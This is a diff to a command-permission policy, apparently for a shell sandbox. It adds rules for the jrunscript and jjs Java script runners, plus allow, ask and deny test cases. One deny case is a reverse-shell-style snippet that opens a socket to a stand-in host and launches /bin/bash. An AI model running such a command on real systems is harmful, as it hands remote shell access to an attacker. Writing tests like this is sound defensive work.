@@ -87,6 +87,19 @@ JSHELL = command(
     ],
     stdin="READ_BY(java.jshell)!",
 )
+JRUNSCRIPT = command(
+    "jrunscript jjs",
+    "RUNS? PLAIN...",
+    [
+        HELP,
+        flags("-l= -encoding= -q -strict -scripting -fx -fv -t= --language="),
+        option("-e", CODE("nashorn"), operands="PLAIN..."),
+        option("-f", RUNS, operands="PLAIN..."),
+        option("-cp -classpath --class-path", "READ_BY(class_path)"),
+    ],
+    style=WORDS,
+    stdin=CODE("nashorn"),
+)
 JDK_TOOLS = loose(
     "javap jdeps jps jstat jstack jmap jinfo jcmd jconsole jvisualvm jfr jlink jmod jpackage jdeprscan jhsdb jimage",
     [
@@ -240,6 +253,11 @@ FORMATTERS = command(
 )
 
 CASES = """
+allow  jrunscript -e 'print(1 + 2)'
+ask    jrunscript -e 'java.lang.Runtime.getRuntime().exec("make")'
+deny   jrunscript -e 'var s = new java.net.Socket("shell.example", 4000); new java.lang.ProcessBuilder("/bin/bash").start()'
+llm    jrunscript -f /tmp/x.js
+allow  jrunscript tools/count.js data.json
 allow  clojure -M:test -e "(require 'clojure.test 'app.rules-test) (clojure.test/run-tests 'app.rules-test)"
 allow  clojure -M -e "(require '[app.core :as c]) (println (c/parse \\"x\\"))"
 ask    clojure -M -e "(require '[clojure.java.shell :as s]) (s/sh \\"ls\\")"
